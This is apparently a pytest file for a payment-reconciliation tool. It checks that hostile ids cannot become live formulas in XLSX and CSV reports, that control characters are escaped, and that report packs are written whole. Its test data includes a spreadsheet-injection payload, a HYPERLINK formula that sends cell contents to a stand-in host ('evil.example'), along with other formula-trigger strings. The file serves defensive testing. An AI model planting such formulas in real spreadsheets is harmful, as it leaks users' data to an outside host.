"""Issue 9: reports that cannot attack their readers, and report packs written whole.

A hostile id must not become a live formula in report.xlsx or a formula-looking cell in the
CSVs; a control character must not crash the XLSX writer; a run that fails half way leaves the
previous pack exactly as it was."""

from __future__ import annotations

import csv
import hashlib
import json
import sys
from pathlib import Path

import openpyxl
import pandas as pd
import psutil
import pytest
from paybridge_reconciliation.files import run_files
from paybridge_reconciliation.generate import generate, write_csvs
from paybridge_reconciliation.safe_text import safe_text

EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"Click")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def clean_files(tmp_path_factory) -> dict[str, Path]:
    return write_csvs(generate(11, 60), tmp_path_factory.mktemp("clean"))


def hostile_requests(clean: dict[str, Path], folder: Path, customer: str, invoice: str) -> Path:
    frame = pd.read_csv(clean["requests"], dtype=str, keep_default_na=False)
    frame["customer_id"] = customer
    frame["invoice_id"] = [f"{invoice}{i}" if i else invoice for i in range(len(frame))]
    path = folder / "requests.csv"
    frame.to_csv(path, index=False)
    return path


def run_hostile(clean: dict[str, Path], tmp_path: Path, customer: str, invoice: str) -> Path:
    requests = hostile_requests(clean, tmp_path, customer, invoice)
    out = tmp_path / "out"
    run_files(requests, clean["receipts"], out, rates_path=clean["rates"])
    return out


def xlsx_cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_live_formula(path: Path) -> None:
    cells = xlsx_cells(path)
    formulas = [c.value for c in cells if c.data_type == "f"]
    assert formulas == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(TRIGGERS) and not _plain_number(t)]


def _plain_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text.lstrip("-").replace(".", "", 1).isdigit()


def csv_cells(out: Path) -> list[str]:
    cells: list[str] = []
    for name in ("matches.csv", "exceptions.csv", "requests_status.csv", "journals.csv"):
        with (out / name).open(newline="", encoding="utf-8") as handle:
            for row in csv.reader(handle):
                cells.extend(row)
    return cells


def test_hyperlink_id_gives_no_live_formula(clean_files, tmp_path):
    out = run_hostile(clean_files, tmp_path, EVIL, EVIL)
    assert_no_live_formula(out / "report.xlsx")
    texts = [c.value for c in xlsx_cells(out / "report.xlsx") if isinstance(c.value, str)]
    assert "'" + EVIL in texts  # kept, recoverable: one leading quote
    cells = csv_cells(out)
    assert "'" + EVIL in cells
    assert not [c for c in cells if c.startswith(TRIGGERS) and not _plain_number(c)]


def test_leading_tab_is_neutralised(clean_files, tmp_path):
    out = run_hostile(clean_files, tmp_path, "\t=1+2", "\t@SUM(A1)")
    assert_no_live_formula(out / "report.xlsx")
    cells = csv_cells(out)
    assert "'=1+2" in cells  # the input reader trims the surrounding whitespace
    assert safe_text("\t=1+2") == "'\t=1+2" and safe_text("\r=1") == "'\r=1"
    assert not [c for c in cells if c.startswith(TRIGGERS) and not _plain_number(c)]


def test_control_character_id_is_escaped_not_a_crash(clean_files, tmp_path):
    out = run_hostile(clean_files, tmp_path, "C\x1b[31mRED\x00", "INV\x07")
    texts = [c.value for c in xlsx_cells(out / "report.xlsx") if isinstance(c.value, str)]
    assert "C\\x1b[31mRED\\x00" in texts
    assert not [t for t in texts if any(ord(ch) < 9 or 13 < ord(ch) < 32 for ch in t)]
    assert "C\\x1b[31mRED\\x00" in csv_cells(out)


def test_negative_amounts_stay_numbers_and_rule_is_reversible():
    assert safe_text("-12.50") == "-12.50"
    assert safe_text("12") == "12"
    assert safe_text("-1e3") == "'-1e3"
    for original in (EVIL, "'quoted", "a\\x01b", "a\x01b", "@x", "+1", "plain"):
        made = safe_text(original)
        back = made[1:] if made.startswith("'") else made
        back = back.encode().decode("unicode_escape") if "\\" in back else back
        assert back == original


def _pack_is_consistent(out: Path) -> dict:
    manifest = json.loads((out / "manifest.json").read_text())
    for name, sha in manifest["outputs"].items():
        assert hashlib.sha256((out / name).read_bytes()).hexdigest() == sha, name
    return manifest


@pytest.mark.parametrize("where", ["html", "xlsx process"])
def test_failure_mid_write_leaves_the_old_pack(clean_files, tmp_path, monkeypatch, where):
    """A report that fails half way, here (the HTML and PDF) or in the second process that
    writes report.xlsx, fails the run and leaves the previous pack as it was."""
    out = tmp_path / "pack"
    first = run_files(
        clean_files["requests"], clean_files["receipts"], out, rates_path=clean_files["rates"]
    )
    before = {p.name: p.read_bytes() for p in out.iterdir()}

    import paybridge_reconciliation.reports as reports

    if where == "html":

        def broken(*_args, **_kwargs):
            raise OSError("disk full")

        monkeypatch.setattr(reports, "write_html", broken)
        expected = pytest.raises(OSError, match="disk full")
    else:  # the worker writes part of the file, then dies
        script = "import sys; open(sys.argv[2], 'wb').write(b'PK'); sys.exit('OSError: disk full')"
        monkeypatch.setattr(reports, "XLSX_WORKER", [sys.executable, "-c", script])
        expected = pytest.raises(RuntimeError, match=r"report.xlsx was not written .*disk full")
    hostile = hostile_requests(clean_files, tmp_path, "C-other", "INV-other")
    with expected:
        run_files(hostile, clean_files["receipts"], out, rates_path=clean_files["rates"])
    assert _xlsx_workers() == []  # the worker is gone either way
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
    assert _pack_is_consistent(out) == first
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


def _xlsx_workers() -> list[psutil.Process]:
    """This process's children that were handed a report.xlsx input (its scratch folder is in
    their arguments); other fixtures' servers are left out."""
    found = []
    for child in psutil.Process().children(recursive=True):
        try:
            if any("paybridge-xlsx-" in argument for argument in child.cmdline()):
                found.append(child)
        except (psutil.NoSuchProcess, psutil.ZombieProcess):
            continue
    return found


def test_rerun_without_reports_replaces_the_pack_whole(clean_files, tmp_path):
    out = tmp_path / "pack"
    run_files(
        clean_files["requests"], clean_files["receipts"], out, rates_path=clean_files["rates"]
    )
    (out / "notes.txt").write_text("mine")
    run_files(
        clean_files["requests"],
        clean_files["receipts"],
        out,
        rates_path=clean_files["rates"],
        reports=False,
    )
    assert not (out / "report.xlsx").exists() and not (out / "report.html").exists()
    assert (out / "notes.txt").read_text() == "mine"
    _pack_is_consistent(out)
